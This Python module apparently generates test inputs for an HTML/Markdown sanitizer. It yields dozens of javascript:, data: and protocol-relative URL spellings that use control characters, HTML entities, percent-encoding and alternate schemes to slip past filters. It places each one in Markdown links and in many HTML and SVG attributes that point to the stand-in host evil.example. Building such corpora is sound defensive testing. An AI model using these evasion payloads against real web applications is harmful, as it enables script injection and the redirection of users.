"""Addresses that run something or lead elsewhere, in spellings that a filter may not know, wherever one can stand."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from urllib.parse import quote

RUN = "ran(1)"
ELSEWHERE = "evil.example"
# What runs by itself wherever a browser takes it for a tag.
LIVE = f"<img src=x onerror={RUN}>"
SCRIPT = f"<script>{RUN}</script>"


def schemes() -> Iterator[str]:
    """Addresses that run something when somebody goes there, in the spellings that a filter may not know."""
    name = "javascript"
    yield f"{name}:{RUN}"
    yield f"JaVaScRiPt:{RUN}"
    for sign in ["\t", "\n", "\r", "\r\n", "\x00", "\x01", "\x0b", "\xad", "\u200b", "\u202e", "\ufeff", " ", "\\\n"]:
        yield f"java{sign}script:{RUN}"
        yield f"{sign}{name}:{RUN}"
        yield f"{name}{sign}:{RUN}"
    for sign in [
        "&#9;",
        "&#10;",
        "&#13;",
        "&#x9;",
        "&Tab;",
        "&NewLine;",
        "&#0;",
        "&#1;",
        "&#x2028;",
        "&shy;",
        "&#173;",
    ]:
        yield f"java{sign}script:{RUN}"
        yield f"{sign}{name}:{RUN}"
    for colon in ["&colon;", "&#58;", "&#x3a;", "&#0000058", "&#x3A", "%3A", "：", "&amp;colon;", "\\:"]:
        yield f"{name}{colon}{RUN}"
    yield "".join(f"&#{ord(letter)};" for letter in f"{name}:{RUN}")
    yield "".join(f"&#x{ord(letter):X}" for letter in f"{name}:{RUN}")
    yield "".join(f"&#{ord(letter):07d}" for letter in f"{name}:{RUN}")
    yield "".join(f"\\{letter}" if not letter.isalnum() else letter for letter in f"{name}:{RUN}")
    yield quote(f"{name}:{RUN}", safe="")
    yield f"{name}://{ELSEWHERE}/%0a{RUN}"
    yield f"{name}:/*--></title></style>*/{RUN}"
    yield f"data:text/html,{SCRIPT}"
    yield "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4="
    yield f"DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"
    for other in [
        "vbscript",
        "livescript",
        "mocha",
        "jar",
        "feed",
        "view-source",
        "blob",
        "filesystem",
        "file",
        "about",
    ]:
        yield f"{other}:{RUN}"
        yield f"{other}:{name}:{RUN}"
    for host in [
        "//",
        "\\\\",
        "/\\",
        "\\/",
        "/\t/",
        "/&#9;/",
        "///",
        "////",
        "&sol;&sol;",
        "%2F/",
        "https:",
        "/%5c",
        " //",
    ]:
        yield f"{host}{ELSEWHERE}/"


# Where an address can stand.
LINKS: list[Callable[[str], str]] = [
    lambda it: f"[x]({it})",
    lambda it: f"[x](<{it}>)",
    lambda it: f"[x][y]\n\n[y]: {it}",
    lambda it: f"[x]\n\n[x]: <{it}>",
    lambda it: f"![x]({it})",
    lambda it: f"![x][y]\n\n[y]: {it}",
    lambda it: f"[![x]({it})]({it})",
    lambda it: f"<{it}>",
    lambda it: f"[x]({it} 'title')",
    lambda it: f"<a href={it}>x</a>",
    lambda it: f'<a href="{it}">x</a>',
    lambda it: f"<a href='{it}'>x</a>",
    lambda it: f"<a href=`{it}`>x</a>",
    lambda it: f'<a href=" {it}" target=_blank ping="{it}">x</a>',
    lambda it: f'<a xlink:href="{it}" formaction="{it}">x</a>',
    lambda it: f'<svg><a xlink:href="{it}"><text y=9>x</text></a></svg>',
    lambda it: f'<math href="{it}"><mi xlink:href="{it}">x</mi></math>',
    lambda it: f'<img src="{it}">',
    lambda it: f"<img src={it} srcset='{it} 2x' lowsrc={it} dynsrc={it} longdesc={it} usemap={it}>",
    lambda it: f'<iframe src="{it}"></iframe>',
    lambda it: f"<form action='{it}'><button formaction='{it}'>x</button><input type=submit></form>",
    lambda it: f'<object data="{it}"><param name=src value="{it}"></object>',
    lambda it: f'<embed src="{it}">',
    lambda it: f'<base href="{it}//">',
    lambda it: f'<link rel=stylesheet href="{it}"><link rel=prefetch href="{it}">',
    lambda it: f'<meta http-equiv=refresh content="0;url={it}">',
    lambda it: f'<video poster="{it}" src="{it}"><source src="{it}"></video>',
    lambda it: f'<table background="{it}"><td background="{it}">x</table>',
    lambda it: f"<blockquote cite='{it}'>x</blockquote><q cite='{it}'>x</q><del cite='{it}'>x</del>",
    lambda it: f'<map name=m><area href="{it}" shape=default></map><img src=/media/x.webp usemap=#m>',
    lambda it: f"<p style=\"background:url('{it}')\">x</p>",
    lambda it: f'<svg><use href="{it}#x"/><image href="{it}"/><feImage href="{it}"/></svg>',
    lambda it: f'<svg><animate attributeName=href values="{it}"/><set attributeName=onload to={RUN} /></svg>',
]


def addresses() -> Iterator[str]:
    spellings = list(schemes())
    # Each spelling in a few places, and each place with a few spellings: all pairs would say no more.
    for number, spelling in enumerate(spellings):
        yield LINKS[0](spelling)
        yield LINKS[10](spelling)
        yield LINKS[number % len(LINKS)](spelling)
    for place in LINKS:
        for spelling in [f"javascript:{RUN}", f"java&#9;script:{RUN}", f"//{ELSEWHERE}/x", f"https://{ELSEWHERE}/x"]:
            if place is not LINKS[0] or "https" not in spelling:
                yield place(spelling)
